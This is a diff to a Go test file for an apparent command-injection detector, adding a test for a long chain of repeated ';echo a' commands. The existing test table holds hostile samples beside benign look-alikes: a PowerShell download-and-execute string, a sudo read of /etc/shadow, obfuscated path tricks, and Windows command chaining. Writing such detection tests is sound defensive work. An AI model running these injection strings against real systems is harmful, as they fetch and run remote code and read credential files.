@@ -1,6 +1,7 @@
 package rce
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/weirnode/weir/detect/detecttest"
@@ -26,6 +27,7 @@ func TestSigns(t *testing.T) {
 	f(&powershell, point.Text, `iex (New-Object Net.WebClient).DownloadString('http://x')`, `new object`)
 	f(&wrapped, point.Text, `1;sudo cat /etc/shadow`, `1;sudoku`)
 	f(&hiddenArgument, point.Text, `1;cat ${HOME:0:1}etc`, `1;cat ${HOME}`)
+	f(&flood, point.Text, strings.Repeat(`;echo a`, 600), strings.Repeat(`;echo a`, 100))
 	f(&windowsLoop, point.Text, `& for /f %i in ('whoami') do echo %i`, `for 5% in cash (net)`)
 	f(&asWindows, point.Text, `1&<nul tasklist`, `1 & tasklist and others`)
 	f(&windowsSlice, point.Text, `%COMSPEC:~0,1%`, `50% :~ 20%`)
